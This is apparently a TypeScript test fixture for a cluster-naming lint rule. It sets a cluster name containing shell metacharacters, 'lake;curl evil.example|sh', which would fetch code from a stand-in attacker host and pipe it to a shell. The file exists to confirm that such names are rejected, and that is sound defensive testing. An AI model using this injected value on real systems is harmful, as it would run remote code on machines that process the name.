// breaks: emr-names-and-descriptions
// A cluster name with shell metacharacters (names are data, never commands).
import { exampleCluster } from "./lib/base";

exampleCluster("bad-name", (args) => {
  args.clusterName = "lake;curl evil.example|sh";
});
